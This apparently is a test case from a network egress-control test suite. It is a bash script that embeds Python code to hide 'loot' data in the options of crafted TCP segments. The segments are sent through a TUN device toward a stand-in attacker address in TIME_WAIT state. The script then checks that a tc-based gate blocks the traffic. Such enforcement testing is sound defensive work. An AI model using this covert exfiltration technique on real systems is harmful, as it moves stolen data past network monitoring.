#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: takes evil's address, ends a connection with itself there, gives the address back, and forwards bare segments for what waits for its end (TIME_WAIT), with data in the options
# stopped-by: tc
# reason: destination
# kernels: all
#
# Root with CAP_NET_ADMIN in its own network namespace. No cgroup's program sees what is forwarded.
. "$(dirname "$0")/../interfaces/lib.sh"
container tcp/443
inside_netns "$CLIENT" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.{all,default}.rp_filter=0
inside_netns "$CLIENT" ip tuntap add tap7 mode tun 2>/dev/null || skip "this kernel has no tun devices"
ip -n "$CLIENT" link del tap7

attack_by <<'PYTHON'
from attacker import *
import fcntl
import subprocess

TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 0x0001, 0x1000
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, TUNSETIFF, struct.pack("16sH", b"tap7", IFF_TUN | IFF_NO_PI))

def segment(flags, options):
    options = options.ljust((len(options) + 3) // 4 * 4, b"\1")
    header = struct.pack("!HHIIBBHHH", port, 443, 1000, 0, 5 + len(options) // 4 << 4, flags, 65535, 0, 0) + options
    total = checksum(pseudo(EVIL4, EVIL4, 6, len(header)) + header)
    return ip4(EVIL4, 6, header[:16] + struct.pack("!H", total) + header[18:], source=EVIL4)

subprocess.run("ip link set tap7 up", shell=True, check=True) # made now, so that the gate finds none
subprocess.run(f"ip address add {EVIL4}/32 dev lo", shell=True, check=True)
with attempt("a connection with itself"):
    listener = socket.create_server((EVIL4, 443))
    sock = socket.create_connection((EVIL4, 443), 1)
    port = sock.getsockname()[1]
    accepted, _ = listener.accept()
    sock.shutdown(socket.SHUT_WR)
    accepted.close()
    sock.close()
    listener.close()
subprocess.run(f"ip address del {EVIL4}/32 dev lo", shell=True, check=True)
print(open("/proc/net/tcp").read().count(" 06 "), "wait for their end")
with attempt("bare segments"):
    os.write(tun, segment(0x10, bytes([253, 38]) + loot("waiting")))
PYTHON
works stolen:waiting
holds "$SAID" '^[1-9][0-9]* wait for their end'
gate
forget
stopped
holds "$SAID" '^[1-9][0-9]* wait for their end'
recorded tc destination
